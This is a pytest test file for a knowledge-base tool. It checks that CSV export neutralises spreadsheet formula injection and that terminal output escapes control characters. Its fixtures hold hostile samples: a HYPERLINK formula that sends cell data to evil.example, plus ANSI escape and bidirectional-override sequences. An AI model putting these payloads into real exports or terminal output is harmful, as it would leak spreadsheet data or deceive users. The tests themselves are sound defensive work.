"""What leaves the tool is safe where it lands: CSV cells a spreadsheet would run as formulas get
a leading quote (graph/export.py), and text for the terminal carries no control sequence from
record content (console/safe.py and its callers)."""

from __future__ import annotations

import csv
from types import SimpleNamespace

import pytest

from experience_kb.cli import main
from experience_kb.console import graph as console_graph
from experience_kb.console import report as console_report
from experience_kb.console import search as console_search
from experience_kb.console import tables
from experience_kb.console.safe import clean
from experience_kb.graph import export
from experience_kb.problems import Code, Report, problem

ESC = "\x1b"
FORMULAS = {  # file below the fixture -> (title as written in YAML, title as read)
    "lessons/plain-language.en.md": ("'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")'",
                                     '=HYPERLINK("https://evil.example/?d="&A1,"click")'),
    "milestones/roundtable-recognized.en.md": ("'+1'", "+1"),
    "resolutions/ro-001-2012.en.md": ("'-1'", "-1"),
    "workshops/safeguards-workshop-2012.en.md": ("'@SUM(1)'", "@SUM(1)"),
}


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(copy_fixture, runner):
    root = copy_fixture("good/minimal")
    for name, (written, _) in FORMULAS.items():
        path = root / name
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        index = next(i for i, line in enumerate(lines) if line.startswith("title: "))
        lines[index] = f"title: {written}\n"
        path.write_text("".join(lines), encoding="utf-8")
    result = runner.invoke(main, ["--kb", str(root), "build", "data"])
    assert result.exit_code == 0, result.output
    exported = root.parent / "build" / "data" / "records.en.csv"  # the fixture's build_dir is ../build
    with open(exported, newline="", encoding="utf-8") as handle:
        titles = {row["path"]: row["title"] for row in csv.DictReader(handle)}
    for name, (_, title) in FORMULAS.items():
        assert titles[name] == "'" + title
    assert titles["glossary/redd-plus.en.md"] == "REDD+"  # a + inside the text is no formula


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", ""), (5, 5), (-5, -5), (1.5, 1.5),
])
def test_csv_cell(value, written):
    assert export._cell(value) == written


@pytest.mark.parametrize("text, shown", [
    ("red \x1b[31malert", "red \\x1b[31malert"), ("nul\x00", "nul\\x00"), ("bell\x07", "bell\\x07"),
    ("cr\rlf", "cr\\x0dlf"), ("del\x7f", "del\\x7f"), ("csi\x9b", "csi\\x9b"), ("rlo\u202e", "rlo\\u202e"),
    ("isolate\u2066", "isolate\\u2066"), ("keeps\nlines\tand tabs", "keeps\nlines\tand tabs"),
    ("Mesa del Bosque – año", "Mesa del Bosque – año"), ("no\u00a0break", "no\u00a0break"),
])
def test_clean(text, shown):
    assert clean(text) == shown


def bold(text: str) -> str:
    return f"{ESC}[1m{text}{ESC}[0m"


def test_search_text_shows_no_control_sequence_from_content():
    snippet = f"an {ESC}]0;owned{ESC}\\ title and the word forest here"
    start = snippet.index("forest")
    hit = SimpleNamespace(id=f"id{ESC}", lang="en", type="lesson", title=f"Red{ESC}[31m title", date="2012",
                          path=f"lessons/x{ESC}.en.md", snippet=snippet, highlights=[(start, start + 6)],
                          other_languages=[f"es{ESC}"])
    results = SimpleNamespace(query=f"forest{ESC}", total=1, hits=[hit], relaxed=False,
                              expansions=[(f"a{ESC}", [f"b{ESC}"])], suggestion=f"c{ESC}",
                              facets={"stakeholders": {f"forum{ESC}": 1}, "years": {"2012": 1}})
    titles = {f"forum{ESC}": {"en": f"The {ESC}[2J forum"}}
    plain = console_search.search_text(results, titles, "en")
    assert ESC not in plain
    assert "Red\\x1b[31m title" in plain and "The \\x1b[2J forum" in plain
    styled = console_search.search_text(results, titles, "en", bold)
    assert styled.count(ESC) == 4  # only our own bold, around the title and the highlighted word
    assert bold("forest") in styled and bold("Red\\x1b[31m title") in styled


def test_index_notices_clean_paths():
    status = SimpleNamespace(action="updated", changed=[], removed=[], unreadable=[f"lessons/{ESC}[2Jx.en.md"],
                             reason=None, documents=1, seconds=0.1)
    assert not any(ESC in line for line in console_search.index_notices(status))


def test_report_text_and_github_show_no_control_sequence():
    found = problem(Code.SCHEMA, f"kb/lessons/{ESC}[2Jx.en.md", 3, 1, f"title: 'Red{ESC}[31m' is wrong\u202e")
    report = Report([found])
    for fmt in ("text", "github"):
        text = console_report.report(report, fmt)
        assert ESC not in text and "\u202e" not in text and "\\x1b[2J" in text
    assert "\\u001b" in console_report.report(report, "json")  # JSON escapes it itself


def test_graph_and_tables_show_no_control_sequence():
    groups = {"outgoing": {"member_of": {"label": {"en": f"member of{ESC}"}, "items": [
        {"id": f"forum{ESC}", "title": {"en": f"Forum{ESC}[31m"}, "start_date": "2009", "end_date": None}]}},
        "incoming": {}}
    lessons = {"lessons": [{"title": {"en": f"L{ESC}"}, "id": "l", "kind": "lesson", "evidence": [f"e{ESC}"],
                            "applied_in": []}], "never_applied": [f"n{ESC}"]}
    texts = [console_graph.relations_text(f"x{ESC}", f"Title{ESC}[2J", groups, "en"),
             console_graph.lessons_text(lessons, "en"),
             tables.rows_text([["2012", f"id{ESC}", f"Title{ESC}[31m red"], ["2013", "b", "c"]])]
    assert not any(ESC in text for text in texts)
    rows = texts[2].splitlines()
    assert rows[0].index("Title") == rows[1].index("c")  # widths count the escapes as shown
